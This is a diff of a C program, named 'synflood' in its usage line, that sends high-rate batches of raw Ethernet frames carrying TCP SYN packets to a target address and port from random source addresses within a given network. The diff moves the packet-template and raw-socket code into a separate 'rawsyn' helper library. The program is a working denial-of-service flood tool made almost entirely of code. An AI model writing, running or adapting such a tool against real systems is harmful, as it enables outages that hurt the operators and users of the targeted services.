@@ -11,9 +11,6 @@
  */
 #include <arpa/inet.h>
 #include <errno.h>
-#include <linux/if_ether.h>
-#include <linux/if_packet.h>
-#include <net/if.h>
 #include <stdbool.h>
 #include <stdint.h>
 #include <stdio.h>
@@ -23,12 +20,9 @@
 #include <time.h>
 #include <unistd.h>
 
-#include "rawtcp.h"
+#include "rawsyn.h"
 
-#define BATCH       64
-#define TCP_AT      (14 + 20)
-#define TCP_BYTES   40
-#define FRAME_BYTES (TCP_AT + TCP_BYTES)
+#define BATCH 64
 
 static uint8_t frame[BATCH][FRAME_BYTES];
 static uint32_t base, host_mask, destination;
@@ -41,27 +35,6 @@ static uint32_t random32(void)
     x ^= x >> 7;
     x ^= x << 17;
     return (uint32_t)(x >> 32);
-}
-
-static void template(uint8_t *f, const uint8_t mac[6], const uint8_t our_mac[6], uint32_t port)
-{
-    static const uint8_t options[20] = {2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 1, 0, 0, 0, 0, 0, 1, 3, 3, 7};
-    uint8_t *ip = f + 14, *tcp = f + TCP_AT;
-
-    memcpy(f, mac, 6);
-    memcpy(f + 6, our_mac, 6);
-    put_be16(f + 12, ETH_P_IP);
-    ip[0] = 0x45;
-    put_be16(ip + 2, 20 + TCP_BYTES);
-    put_be16(ip + 6, 0x4000);
-    ip[8] = 64;
-    ip[9] = IPPROTO_TCP;
-    put_be32(ip + 16, destination);
-    put_be16(tcp + 2, (uint16_t)port);
-    tcp[12] = TCP_BYTES / 4 << 4;
-    tcp[13] = 2; /* SYN */
-    put_be16(tcp + 14, 64240);
-    memcpy(tcp + 20, options, sizeof options);
 }
 
 static void fill(uint8_t *f)
@@ -81,21 +54,6 @@ static double now(void)
 
     clock_gettime(CLOCK_MONOTONIC, &ts);
     return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
-}
-
-static int open_interface(const char *name, uint8_t ret_mac[6])
-{
-    struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(name)};
-    socklen_t n = sizeof at;
-    int fd = socket(AF_PACKET, SOCK_RAW, 0); /* protocol 0: it receives nothing */
-
-    if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof at) < 0 ||
-        getsockname(fd, (struct sockaddr *)&at, &n) < 0) {
-        perror(name);
-        exit(1);
-    }
-    memcpy(ret_mac, at.sll_addr, 6);
-    return fd;
 }
 
 /* One batch; the frames that the interface took. */
@@ -173,9 +131,13 @@ int main(int argc, char **argv)
         fprintf(stderr, "usage: synflood INTERFACE MAC ADDRESS PORT SOURCE/BITS RATE SECONDS\n");
         return 2;
     }
-    fd = open_interface(argv[1], our_mac);
+    fd = rawsyn_open(argv[1], our_mac);
+    if (fd < 0) {
+        perror(argv[1]);
+        exit(1);
+    }
     for (unsigned i = 0; i < BATCH; i++)
-        template(frame[i], mac, our_mac, (uint32_t)atoi(argv[4]));
+        rawsyn_template(frame[i], mac, our_mac, destination, (uint16_t)atoi(argv[4]));
     run(fd, atof(argv[6]), atof(argv[7]));
     close(fd);
     return 0;
